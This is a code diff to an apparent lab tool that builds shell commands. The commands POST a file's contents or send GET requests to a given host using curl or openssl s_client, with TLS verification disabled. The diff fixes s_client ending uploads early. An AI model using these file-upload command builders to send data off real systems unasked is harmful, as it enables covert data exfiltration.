@@ -52,6 +52,10 @@ WEB_SERVE = (
 )
 
 ENC = "openssl enc -aes-256-cbc -pbkdf2 -pass pass:lab"
+# A TLS client that sends its stdin and stops at EOF. -nocommands: without
+# it s_client reads a stdin chunk that starts with Q as "quit" (and R, k, K
+# as commands), so about one random upload in three stopped part way.
+S_CLIENT = "openssl s_client -quiet -no_ign_eof -nocommands"
 
 
 def https_post(host: str, src: str, path: str = "/upload") -> str:
@@ -59,7 +63,7 @@ def https_post(host: str, src: str, path: str = "/upload") -> str:
     return (
         f"if command -v curl >/dev/null; then curl -sk --max-time 30 --data-binary @{src} https://{host}{path} >/dev/null; "
         f"else (printf 'POST {path} HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %s\\r\\nConnection: close\\r\\n\\r\\n' "
-        f"$(wc -c < {src}); cat {src}) | openssl s_client -quiet -no_ign_eof -connect {host}:443 >/dev/null 2>&1; fi"
+        f"$(wc -c < {src}); cat {src}) | {S_CLIENT} -connect {host}:443 >/dev/null 2>&1; fi"
     )
 
 
@@ -78,7 +82,7 @@ def http_post(host: str, port: int, src: str, path: str, body_apart: bool = Fals
 def https_get(host: str) -> str:
     return (
         f"printf 'GET /api/v1/items HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n' | "
-        f"openssl s_client -quiet -no_ign_eof -connect {host}:443 >/dev/null 2>&1"
+        f"{S_CLIENT} -connect {host}:443 >/dev/null 2>&1"
     )
 
 
@@ -107,7 +111,7 @@ def resolve(name: str) -> str:
 def https_get_named(name: str) -> str:
     return (
         f"{resolve(name)}; printf 'GET /api/v1/items HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n' | "
-        f"openssl s_client -quiet -no_ign_eof -connect $ip:443 -servername {name} >/dev/null 2>&1"
+        f"{S_CLIENT} -connect $ip:443 -servername {name} >/dev/null 2>&1"
     )
 
 
